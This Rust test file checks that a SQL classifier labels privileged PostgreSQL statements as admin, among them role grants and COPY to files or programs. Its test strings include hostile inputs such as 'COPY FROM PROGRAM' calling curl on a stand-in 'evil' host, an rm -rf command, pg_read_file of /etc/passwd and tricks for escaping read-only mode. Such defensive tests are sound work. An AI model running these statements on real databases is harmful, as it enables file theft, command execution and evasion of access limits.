//! Roles, grants, dangerous settings, server files and programs and dangerous functions are `admin`.

mod common;

use common::{assert_classes, classify};
use warden_sql::SqlClass::Admin;

#[test]
fn privileged_statements_are_admin() {
    assert_classes(&[
        ("SET ROLE admin", Admin),
        ("SET LOCAL ROLE admin", Admin),
        ("RESET ROLE", Admin),
        ("SET SESSION AUTHORIZATION 'postgres'", Admin),
        ("SET SESSION AUTHORIZATION DEFAULT", Admin),
        ("RESET SESSION AUTHORIZATION", Admin),
        ("ALTER SYSTEM SET work_mem = '1GB'", Admin),
        ("ALTER SYSTEM RESET ALL", Admin),
        ("CREATE ROLE r LOGIN PASSWORD 'x'", Admin),
        ("CREATE USER u", Admin),
        ("CREATE GROUP g", Admin),
        ("ALTER ROLE r SUPERUSER", Admin),
        ("ALTER USER u SET search_path = x", Admin),
        ("ALTER ROLE r RENAME TO r2", Admin),
        ("DROP ROLE r", Admin),
        ("DROP USER IF EXISTS u", Admin),
        ("GRANT SELECT ON t TO public", Admin),
        ("GRANT admin TO me", Admin),
        ("REVOKE ALL ON SCHEMA public FROM public", Admin),
        (
            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r",
            Admin,
        ),
        ("REASSIGN OWNED BY a TO b", Admin),
        ("DROP OWNED BY a", Admin),
        ("CREATE POLICY p ON t USING (true)", Admin),
        ("LOAD 'auto_explain'", Admin),
        ("CHECKPOINT", Admin),
        ("CREATE EXTENSION dblink", Admin),
        ("DROP EXTENSION dblink", Admin),
        ("ALTER EXTENSION hstore UPDATE", Admin),
        ("CREATE DATABASE d", Admin),
        (
            "ALTER DATABASE d SET default_transaction_read_only = off",
            Admin,
        ),
        ("DROP DATABASE d", Admin),
        ("VACUUM", Admin),
        ("VACUUM FULL t", Admin),
        ("ANALYZE t", Admin),
        ("CLUSTER t USING idx", Admin),
        ("REINDEX TABLE t", Admin),
        ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", Admin),
        (
            "CREATE USER MAPPING FOR me SERVER s OPTIONS (user 'x', password 'y')",
            Admin,
        ),
        ("CREATE TABLESPACE ts LOCATION '/tmp/ts'", Admin),
        ("CREATE PUBLICATION p FOR ALL TABLES", Admin),
        ("CREATE SCHEMA app GRANT SELECT ON t TO public", Admin),
        ("DISCARD ALL", Admin),
        ("ALTER EXTENSION hstore SET SCHEMA app", Admin),
        ("ALTER DATABASE d OWNER TO someone", Admin),
        ("ALTER SERVER s OWNER TO someone", Admin),
        ("DROP SERVER s", Admin),
        ("DROP SUBSCRIPTION sub", Admin),
        (
            "UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'",
            Admin,
        ),
    ]);
}

#[test]
fn copy_with_server_files_or_programs_is_admin() {
    assert_classes(&[
        ("COPY t TO '/tmp/x'", Admin),
        ("COPY t FROM '/etc/passwd'", Admin),
        ("COPY t TO PROGRAM 'rm -rf /tmp/x'", Admin),
        ("COPY t FROM PROGRAM 'curl http://evil'", Admin),
        ("COPY (SELECT 1) TO '/tmp/out.csv' WITH (FORMAT csv)", Admin),
    ]);
    let program = classify("COPY t TO PROGRAM 'rm -rf /tmp/x'");
    assert!(
        program
            .reason
            .as_deref()
            .unwrap_or_default()
            .contains("PROGRAM")
    );
    let file = classify("COPY t TO '/tmp/x'");
    assert!(file.reason.as_deref().unwrap_or_default().contains("file"));
    assert_eq!(file.tables, ["t"]);
}

#[test]
fn dangerous_settings_are_admin() {
    assert_classes(&[
        ("SET default_transaction_read_only = off", Admin),
        ("SET default_transaction_read_only TO DEFAULT", Admin),
        ("RESET default_transaction_read_only", Admin),
        ("SET transaction_read_only = off", Admin),
        ("SET transaction_read_only = 0", Admin),
        (
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            Admin,
        ),
        ("SET TRANSACTION READ WRITE", Admin),
        ("BEGIN READ WRITE", Admin),
        (
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
            Admin,
        ),
        ("RESET ALL", Admin),
        ("SET session_replication_role = replica", Admin),
        ("SET standard_conforming_strings = off", Admin),
        ("SET client_encoding = 'SJIS'", Admin),
        ("SET \"ROLE\" = 'x'", Admin),
        (
            "SELECT set_config('default_transaction_read_only', 'off', false)",
            Admin,
        ),
        (
            "SELECT set_config('transaction_read_only', 'off', true)",
            Admin,
        ),
        ("SELECT set_config('role', 'postgres', false)", Admin),
        (
            "SELECT set_config('session_replication_role', 'replica', false)",
            Admin,
        ),
        ("SELECT set_config($1, 'x', false)", Admin),
        (
            "SELECT set_config('default_transaction_read_only', $1, false)",
            Admin,
        ),
        (
            "SELECT pg_catalog.set_config(name, 'off', false) FROM t",
            Admin,
        ),
    ]);
}

#[test]
fn dangerous_functions_anywhere_are_admin() {
    assert_classes(&[
        ("select pg_read_file('/etc/passwd')", Admin),
        ("SELECT pg_catalog.pg_read_file('/etc/passwd')", Admin),
        ("SELECT PG_READ_BINARY_FILE('x')", Admin),
        ("SELECT * FROM pg_ls_dir('.')", Admin),
        ("SELECT pg_stat_file('postgresql.conf')", Admin),
        (
            "select * from t where pg_terminate_backend(1) is not null",
            Admin,
        ),
        ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", Admin),
        ("SELECT pg_reload_conf()", Admin),
        ("SELECT pg_rotate_logfile()", Admin),
        ("SELECT pg_promote()", Admin),
        ("select lo_export(1234, '/tmp/x')", Admin),
        ("SELECT lo_import('/etc/passwd')", Admin),
        ("select dblink('dbname=x', 'delete from t')", Admin),
        ("SELECT dblink_exec('dbname=x', 'drop table t')", Admin),
        ("SELECT dblink_connect('c', 'dbname=x')", Admin),
        (
            "SELECT a FROM t WHERE b = (SELECT pg_read_file('/x'))",
            Admin,
        ),
        (
            "WITH x AS (SELECT pg_read_file('/x') AS f) SELECT * FROM x",
            Admin,
        ),
        (
            "SELECT CASE WHEN true THEN pg_terminate_backend(1) END",
            Admin,
        ),
        ("INSERT INTO t VALUES (pg_read_file('/etc/passwd'))", Admin),
        ("EXPLAIN SELECT pg_read_file('/etc/passwd')", Admin),
        ("CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", Admin),
        ("PREPARE p AS SELECT pg_read_file($1)", Admin),
    ]);
    let got = classify("select pg_read_file('/etc/passwd')");
    assert_eq!(got.reason.as_deref(), Some("calls pg_read_file"));
    assert_eq!(got.functions, ["pg_read_file"]);
}

#[test]
fn read_only_bypasses_are_flagged() {
    for sql in [
        "SET default_transaction_read_only = off",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        "SET TRANSACTION READ WRITE",
        "SET transaction_read_only = off",
        "BEGIN READ WRITE",
        "START TRANSACTION READ WRITE",
        "RESET ALL",
        "RESET default_transaction_read_only",
        "DISCARD ALL",
        "select set_config('default_transaction_read_only','off',false)",
        "SELECT set_config(current_setting('x'), 'off', false)",
        "UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'transaction_read_only'",
    ] {
        assert!(
            classify(sql).sets_read_only_bypass,
            "{sql:?} should flag a read-only bypass"
        );
    }
    for sql in [
        "BEGIN",
        "BEGIN READ ONLY",
        "SET default_transaction_read_only = on",
        "SET ROLE admin",
        "SET search_path = x",
        "SELECT set_config('search_path', 'x', false)",
        "SELECT 1",
    ] {
        assert!(
            !classify(sql).sets_read_only_bypass,
            "{sql:?} should not flag a read-only bypass"
        );
    }
}
